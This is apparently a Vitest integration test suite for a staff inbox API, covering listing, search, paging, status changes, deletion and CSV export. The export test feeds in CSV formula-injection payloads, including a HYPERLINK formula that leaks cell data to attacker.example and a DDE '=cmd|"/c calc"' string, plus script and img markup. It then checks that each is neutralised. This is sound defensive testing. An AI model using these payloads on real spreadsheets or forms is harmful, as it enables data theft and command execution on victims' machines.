// @vitest-environment node
/**
 * The inbox's API over real HTTP with a signed-in staff member: list, filters, search, paging,
 * detail, status, deletion and CSV export.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { staffApiPaths } from '@/config/staff-api';
import type { NewSubmission } from '../db';
import type { InboxPage, SubmissionDetail } from '../db/inbox';
import { createStaff, signIn, type StaffSession } from '../support/staff-client';
import {
  postJson,
  startTestServer,
  validApply,
  validContact,
  type TestServer,
} from '../test-support';

let server: TestServer;
let staff: StaffSession;
beforeEach(async () => {
  server = await startTestServer();
  await createStaff(server);
  staff = await signIn(server);
});
afterEach(async () => {
  await server.close();
});

const contact = (overrides: Partial<NewSubmission> = {}): NewSubmission => ({
  kind: 'contact',
  country: null,
  ...validContact,
  ...overrides,
});
const application = (overrides: Partial<NewSubmission> = {}): NewSubmission => ({
  kind: 'apply',
  ...validApply,
  ...overrides,
});

async function list(query = ''): Promise<InboxPage> {
  const response = await staff.request(`${staffApiPaths.submissions}${query}`);
  expect(response.status).toBe(200);
  return (await response.json()) as InboxPage;
}

/** The body's text after its UTF-8 byte-order mark, which must be there (fetch's text() drops it). */
async function csvText(response: Response): Promise<string> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder().decode(bytes.slice(3));
}

/** RFC 4180 records of a CSV text (quoted fields, doubled quotes, CRLF line ends). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const character = text[i] ?? '';
    if (quoted) {
      if (character === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      record.push(field);
      field = '';
    } else if (character === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += character;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('the list', () => {
  it('shows the inbox newest first, filters by kind and status, and pages with a cursor', async () => {
    for (let i = 0; i < 60; i += 1) {
      await server.store.insert(
        contact({ last_name: `Contact-${i}`, message: `Enquiry number ${i}` }),
      );
    }
    for (let i = 0; i < 5; i += 1) {
      await server.store.insert(
        application({ last_name: `Applicant-${i}`, message: `Resume ${i}` }),
      );
    }
    const first = await list();
    expect(first.items).toHaveLength(50);
    expect(first.items[0]).toMatchObject({
      kind: 'apply',
      last_name: 'Applicant-4',
      status: 'new',
    });
    expect(Object.keys(first.items[0] ?? {}).sort()).toEqual(
      [
        'first_name',
        'id',
        'kind',
        'last_name',
        'orgnization_email',
        'orgnization_name',
        'received_at',
        'status',
      ].sort(),
    );
    const ids = first.items.map((item) => item.id);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    expect(first.nextCursor).not.toBeNull();
    const second = await list(`?cursor=${first.nextCursor ?? ''}`);
    expect(second.items).toHaveLength(15);
    expect(second.nextCursor).toBeNull();
    expect(second.items.at(-1)?.last_name).toBe('Contact-0');

    const applications = await list('?kind=apply');
    expect(applications.items.map((item) => item.last_name)).toEqual([
      'Applicant-4',
      'Applicant-3',
      'Applicant-2',
      'Applicant-1',
      'Applicant-0',
    ]);

    const target = first.items[3];
    const patched = await staff.request(staffApiPaths.submission(target?.id ?? 0), {
      method: 'PATCH',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ status: 'spam' }),
    });
    expect(patched.status).toBe(200);
    expect((await list('?status=spam')).items.map((item) => item.id)).toEqual([target?.id]);
    // The inbox (no status) leaves spam out; "all" shows everything.
    expect((await list()).items.map((item) => item.id)).not.toContain(target?.id);
    expect((await list('?status=all')).items.map((item) => item.id)).toContain(target?.id);
  });

  it('refuses filters it does not know with a 400 that says why', async () => {
    for (const query of [
      '?kind=lead',
      '?status=open',
      `?q=${'x'.repeat(201)}`,
      '?cursor=abc',
      '?cursor=-1',
    ]) {
      const response = await staff.request(`${staffApiPaths.submissions}${query}`);
      expect(response.status, query).toBe(400);
      expect(((await response.json()) as { message: string }).message, query).toMatch(
        /must|at most/,
      );
    }
  });
});

describe('search', () => {
  it('finds a word from a resume, by prefix, in any field, all words together', async () => {
    await server.store.insert(
      application({
        last_name: 'Okafor',
        message: 'Ada Okafor\nTen years of Kubernetes and Terraform at a Lincoln bank.',
      }),
    );
    await server.store.insert(
      application({
        last_name: 'Nguyen',
        message: 'Linh Nguyen\nSAP IS-U billing consultant since 2015.',
      }),
    );
    await server.store.insert(
      contact({
        last_name: 'Hansen',
        orgnization_email: 'erik.hansen@prairie-grain.example',
        message: 'Data platform on Kubernetes, please call.',
      }),
    );
    const names = async (q: string, extra = '') =>
      (await list(`?q=${encodeURIComponent(q)}${extra}`)).items.map((item) => item.last_name);

    expect(await names('terraform')).toEqual(['Okafor']);
    expect(await names('Kubernetes')).toEqual(['Hansen', 'Okafor']);
    expect(await names('kubernetes', '&kind=apply')).toEqual(['Okafor']);
    expect(await names('kuber')).toEqual(['Hansen', 'Okafor']);
    expect(await names('kubernetes lincoln')).toEqual(['Okafor']);
    expect(await names('prairie-grain')).toEqual(['Hansen']);
    expect(await names('erik.hansen@prairie-grain.example')).toEqual(['Hansen']);
    expect(await names('IS-U')).toEqual(['Nguyen']);
    expect(await names('cobol')).toEqual([]);
    // Search syntax is not interpreted: quotes, stars and operators are plain separators.
    expect(await names('"terraform" OR * NOT (x)')).toEqual([]);
    expect(await names('terraform" NEAR')).toEqual([]);
  });
});

describe('one entry', () => {
  it('shows every field as sent, markup included as text', async () => {
    const html = '<script>alert("x")</script><b>bold</b> &amp;';
    const stored = await server.store.insert(
      application({ first_name: '<img src=x>', message: html }),
    );
    const response = await staff.request(staffApiPaths.submission(stored.id));
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toMatch(/^application\/json/);
    const entry = (await response.json()) as SubmissionDetail;
    expect(entry).toMatchObject({
      ...validApply,
      id: stored.id,
      kind: 'apply',
      status: 'new',
      first_name: '<img src=x>',
      message: html,
      received_at: stored.received_at,
      spam_reasons: [],
    });
    expect((await staff.request(staffApiPaths.submission(999_999))).status).toBe(404);
    expect((await staff.request(staffApiPaths.submission('abc'))).status).toBe(404);
  });

  it('changes status, refuses unknown statuses, and deletes with its notification jobs', async () => {
    const stored = await server.store.insert(contact());
    const patch = (body: unknown) =>
      staff.request(staffApiPaths.submission(stored.id), {
        method: 'PATCH',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify(body),
      });
    const handled = await patch({ status: 'handled' });
    expect(handled.status).toBe(200);
    expect(((await handled.json()) as SubmissionDetail).status).toBe('handled');
    expect((await patch({ status: 'archived' })).status).toBe(400);
    expect((await patch({})).status).toBe(400);
    expect(((await (await patch({ status: 'new' })).json()) as SubmissionDetail).status).toBe(
      'new',
    );

    await server.database.db
      .insertInto('outbox')
      .values({
        submission_id: stored.id,
        channel: 'email',
        created_at: Date.now(),
        next_attempt_at: Date.now(),
      })
      .execute();
    const deleted = await staff.request(staffApiPaths.submission(stored.id), { method: 'DELETE' });
    expect(deleted.status).toBe(204);
    expect((await staff.request(staffApiPaths.submission(stored.id))).status).toBe(404);
    expect(await server.database.db.selectFrom('outbox').selectAll().execute()).toEqual([]);
    expect(
      (await staff.request(staffApiPaths.submission(stored.id), { method: 'DELETE' })).status,
    ).toBe(404);
    expect(await server.store.count()).toBe(0);
  });
});

describe('CSV export', () => {
  it('exports the current filter as RFC 4180 with formulas made harmless', async () => {
    const dangerous = [
      '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
      '+1+2',
      '-3+4',
      '@SUM(A1:A2)',
      '\tTabbed',
      '\rReturned',
    ];
    await server.store.insert(
      contact({ last_name: 'Plain', message: 'Line one\nline "two", with a comma' }),
    );
    for (const [index, value] of dangerous.entries()) {
      await server.store.insert(
        application({ last_name: `Risky-${index}`, message: value, orgnization_name: value }),
      );
    }
    // Through the gateway as a visitor would send it, too.
    await postJson(server.gatewayUrl, {
      ...validContact,
      first_name: '=cmd|"/c calc"!A1',
      last_name: 'Visitor',
    });

    const response = await staff.request(`${staffApiPaths.submissionsCsv}?kind=apply&status=all`);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="submissions-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const text = await csvText(response);
    const [header, ...rows] = parseCsv(text);
    expect(header?.slice(0, 4)).toEqual(['id', 'kind', 'status', 'received_at']);
    const column = (name: string) => header?.indexOf(name) ?? -1;
    expect(rows).toHaveLength(dangerous.length);
    // Newest first; every dangerous value comes back with an apostrophe in front and nothing lost.
    for (const [index, value] of dangerous.entries()) {
      const row = rows[dangerous.length - 1 - index] ?? [];
      expect(row[column('last_name')]).toBe(`Risky-${index}`);
      expect(row[column('message')]).toBe(`'${value}`);
      expect(row[column('orgnization_name')]).toBe(`'${value}`);
    }

    const contacts = parseCsv(
      await csvText(await staff.request(`${staffApiPaths.submissionsCsv}?kind=contact`)),
    );
    expect(
      contacts
        .slice(1)
        .map((row) => [
          row[column('last_name')],
          row[column('first_name')],
          row[column('message')],
        ]),
    ).toEqual([
      ['Visitor', `'=cmd|"/c calc"!A1`, validContact.message],
      ['Plain', 'Jane', 'Line one\nline "two", with a comma'],
    ]);

    const searched = parseCsv(
      await csvText(await staff.request(`${staffApiPaths.submissionsCsv}?status=all&q=calc`)),
    );
    expect(searched.slice(1).map((row) => row[column('last_name')])).toEqual(['Visitor']);
  });
});
